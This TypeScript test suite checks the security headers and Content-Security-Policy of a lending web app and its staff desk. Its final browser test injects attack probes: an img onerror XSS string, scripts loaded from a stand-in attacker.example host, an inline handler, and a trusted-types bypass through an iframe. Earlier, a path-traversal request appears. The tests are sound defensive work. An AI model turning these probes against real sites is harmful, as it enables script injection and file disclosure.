// cspell:ignore elem
import { request } from 'node:http';
import { apiPath as api, nigerianPackage as packageName } from '../support/api-path';
import { expect, test } from '../support/test';

interface Asked {
  readonly what: string;
  readonly path: string;
  readonly status: number;
  /** A request to the back office: the server on the next port. */
  readonly staff?: true;
  readonly init?: RequestInit;
  /** Bytes of a body that is announced and not sent. */
  readonly announces?: number;
}

/**
 * A client that sends an unwanted body may be disconnected before it reads the response; one that only announces it can
 * read it.
 */
function announce(url: string, length: number): Promise<Response> {
  return new Promise((resolve, reject) => {
    const headers = { packageName, 'Content-Length': length };
    const sent = request(url, { method: 'POST', headers }, answer => {
      const reported = Object.entries(answer.headers).filter(
        (entry): entry is [string, string] => typeof entry[1] === 'string',
      );
      resolve(new Response(null, { status: answer.statusCode ?? 0, headers: reported }));
      sent.destroy();
    });
    sent.on('error', reject);
    sent.flushHeaders();
  });
}

/** One address of every kind, and the status of its response. */
const requested: readonly Asked[] = [
  { what: 'the page', path: '/', status: 200 },
  { what: 'the registry', path: '/registry.json', status: 200 },
  { what: 'what is withdrawn', path: '/withdrawn.json', status: 200 },
  { what: 'what is new in the page', path: '/page.json', status: 200 },
  { what: 'the signature of the revision', path: '/revision.json', status: 200 },
  { what: 'the worker', path: '/sw.js', status: 200 },
  { what: 'nothing', path: '/nothing.js', status: 404 },
  { what: 'a path out of the site', path: '/..%2f..%2fpackage.json', status: 400 },
  { what: 'a method that files have not', path: '/', status: 404, init: { method: 'DELETE' } },
  { what: 'a response', path: api('/loanMarket/index'), status: 200 },
  { what: 'a refusal', path: api('/security/getUserInfo'), status: 200 },
  { what: 'no such call', path: '/api/garbled', status: 404 },
  { what: 'another method', path: api('/loanMarket/index'), status: 405, init: { method: 'POST' } },
  {
    what: 'too large a body',
    path: api('/security/getVerifyCode'),
    status: 413,
    announces: 4 * 1024 * 1024,
  },
  { what: 'no picture', path: '/files/IMG-NONE.U.1.x', status: 404 },
  {
    what: 'an unsigned webhook',
    path: '/providers/stp/webhook',
    status: 401,
    init: { method: 'POST', body: '{}' },
  },
  { what: 'a provider’s page', path: '/providers/paystack/none', status: 404 },
  { what: 'the documentation', path: '/api-docs/', status: 200 },
  { what: 'the simulator', path: '/wrapper/', status: 200 },
  { what: 'a control call', path: '/sandbox/clock', status: 200 },
  {
    what: 'a control call that is no JSON',
    path: '/sandbox/clock',
    status: 415,
    init: { method: 'POST', body: '1' },
  },
  { what: 'the way to the desk', path: '/desk/', status: 302, init: { redirect: 'manual' } },
  { what: 'the desk, signed out', path: '/desk/', status: 302, staff: true, init: { redirect: 'manual' } },
  { what: 'the desk’s sign-in', path: '/desk/sign-in', status: 200, staff: true },
  { what: 'the desk’s calls, signed out', path: '/desk/api/me', status: 401, staff: true },
  { what: 'the console', path: '/console/', status: 200, staff: true },
  { what: 'nothing for staff', path: '/nothing', status: 404, staff: true },
];

/** Headers that every response must have. */
function expectGuarded(what: string, { headers, status }: Response): void {
  const reported = Object.fromEntries(headers);
  expect({ what, status, reported }).toEqual({
    what,
    status,
    reported: expect.objectContaining({
      'content-security-policy': expect.stringMatching(/frame-ancestors '(self|none)'/),
      'x-content-type-options': 'nosniff',
      'referrer-policy': expect.stringMatching(/^(no-referrer|same-origin)$/),
      'permissions-policy': expect.stringMatching(
        /otp-credentials=\((self)?\).*microphone=\(\).*payment=\(\)/,
      ),
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-site',
    }),
  });
  expect(reported).not.toHaveProperty('x-powered-by');
  expect(reported).not.toHaveProperty('access-control-allow-origin');
}

test('every kind of response of every server has the security headers', { tag: '@quick' }, async ({
  lender,
}) => {
  for (const { what, path, status, staff, init, announces } of requested) {
    const origin = staff ? `http://localhost:${lender.port + 1}` : lender.origin;
    const answer = announces
      ? await announce(origin + path, announces)
      : await fetch(origin + path, { ...init, headers: { packageName } });
    expect([what, answer.status]).toEqual([what, status]);
    expectGuarded(what, answer);
    const policy = answer.headers.get('content-security-policy');
    const type = answer.headers.get('content-type') ?? '';
    if (
      status >= 400 ||
      (type.startsWith('application/json') && !/^\/(registry|withdrawn|page)\.json$/.test(path))
    ) {
      expect([what, policy]).toEqual([what, expect.stringContaining("default-src 'none'")]);
    }
  }
});

test('unchanged and failed responses (304, 500) have the security headers', async ({ lender }) => {
  const page = await fetch(lender.origin);
  const unchanged = await fetch(lender.origin, {
    headers: { 'If-None-Match': page.headers.get('etag') ?? '' },
  });
  expect(unchanged.status).toBe(304);
  expectGuarded('unchanged', unchanged);
  await lender.fault({ path: '/loanMarket/index', mode: 'http', value: 500 });
  const broken = await fetch(lender.origin + api('/loanMarket/index'), { headers: { packageName } });
  expect(broken.status).toBe(500);
  expectGuarded('broken', broken);
});

test('every file that the page names has the security headers and its hash', async ({ lender }) => {
  const page = await (await fetch(lender.origin)).text();
  const files = [
    ...new Set([...page.matchAll(/(?:host|remotes)\/[\w./-]+?\.(?:js|css)/g)].map(([file]) => file)),
  ];
  expect(files.length).toBeGreaterThan(3);
  for (const file of files) {
    const answer = await fetch(`${lender.origin}/${file}`);
    expect([file, answer.status]).toEqual([file, 200]);
    expectGuarded(file, answer);
    expect(answer.headers.get('cache-control')).toContain('immutable');
  }
});

test('the page allows its own script by hash, files of the site alone, and html from named policies', {
  tag: '@quick',
}, async ({ lender }) => {
  const page = await (await fetch(lender.origin)).text();
  const policy = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(page)?.[1] ?? '';
  const rules = Object.fromEntries(
    policy.split('; ').map(rule => [rule.split(' ')[0], rule.split(' ').slice(1).join(' ')]),
  );
  expect(rules).toMatchObject({
    'default-src': "'none'",
    'base-uri': "'none'",
    'object-src': "'none'",
    'form-action': "'self'",
    'connect-src': "'self'",
    'script-src': expect.stringMatching(/^'self' 'sha256-[\w+/=]+'$/),
    'require-trusted-types-for': "'script'",
    'trusted-types': 'default',
  });
  expect(policy).not.toMatch(/unsafe-|\*|https?:/);
  // No markup before the policy could run before it applies.
  expect(page.indexOf('Content-Security-Policy')).toBeLessThan(page.search(/<(script|style|link)\b/));
});

test('the simulator’s pages have their own policy, with trusted types', async ({ lender }) => {
  for (const place of ['/wrapper/', '/wrapper/check.html']) {
    const text = await (await fetch(lender.origin + place)).text();
    expect(text).toMatch(
      /script-src 'self'; .*require-trusted-types-for 'script'; trusted-types sunbird-pages"/,
    );
  }
});

test('the browser enforces the policy: no inline script, no html from text, no foreign script', {
  tag: '@quick',
}, async ({ browser, lender }) => {
  const page = await browser.newPage();
  await page.route('https://attacker.example/**', route =>
    route.fulfill({ contentType: 'text/javascript', body: 'window.broken = 1' }),
  );
  await page.goto(lender.origin);
  await expect(page.getByRole('heading').first()).toBeVisible();
  const tried = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      violations.push(effectiveDirective);
    });
    function refused(assign: () => unknown): boolean {
      try {
        assign();
        return false;
      } catch {
        return true;
      }
    }
    const answers = {
      html: refused(() => {
        document.createElement('div').innerHTML = '<img src=x onerror="window.broken=1">';
      }),
      text: refused(() => {
        document.createElement('script').text = 'window.broken = 1';
      }),
      attacker: refused(() => {
        const script = document.createElement('script');
        script.src = 'https://attacker.example/x.js';
        document.head.append(script);
      }),
      unlisted: refused(() => {
        const script = document.createElement('script');
        script.src = '/api-docs/x.js';
        document.head.append(script);
      }),
      policy: refused(() => Reflect.get(window, 'trustedTypes').createPolicy('mine', {})),
      defaultPolicy: refused(() => {
        const factory = Reflect.get(window, 'trustedTypes');
        Object.getPrototypeOf(factory).createPolicy.call(factory, 'default', {});
      }),
      admission: refused(() => {
        const address = new URL('/remotes/x/entry.js', location.href).href;
        Reflect.get(window, 'sunbirdAdmit')(address, {
          'own.js': 'A=',
          'https://attacker.example/x.js': 'A=',
        });
        Reflect.get(window, 'sunbirdIntegrity')(new URL('own.js', address).href);
      }),
      names: ['sunbirdIntegrity', 'sunbirdAddress', 'sunbirdAdmit', 'sunbirdBoot'].every(
        name => !Reflect.set(window, name, () => 'sha256-x=') && !Reflect.deleteProperty(window, name),
      ),
    };
    // Newer browsers refuse the handler itself, older ones to run it.
    refused(() => document.body.setAttribute('onclick', 'window.broken = 1'));
    document.body.click();
    // An empty frame has its own trusted types: its policy makes any address and any text trusted.
    const frame = document.body.appendChild(document.createElement('iframe'));
    const policy = Reflect.get(frame.contentWindow ?? {}, 'trustedTypes').createPolicy('default', {
      createScriptURL: (text: string) => text,
      createScript: (text: string) => text,
    });
    const foreign = document.createElement('script');
    foreign.src = policy.createScriptURL('https://attacker.example/x.js');
    const inline = document.createElement('script');
    inline.text = policy.createScript('window.broken = 1');
    document.head.append(foreign, inline);
    await new Promise(resolve => setTimeout(resolve, 200));
    return { answers, violations, broken: 'broken' in window };
  });
  expect(tried.answers).toEqual({
    html: true,
    text: true,
    attacker: true,
    unlisted: true,
    policy: true,
    defaultPolicy: true,
    admission: true,
    names: true,
  });
  expect(tried.broken).toBe(false);
  expect(tried.violations).toEqual(expect.arrayContaining(['require-trusted-types-for', 'script-src-elem']));
  await page.close();
});
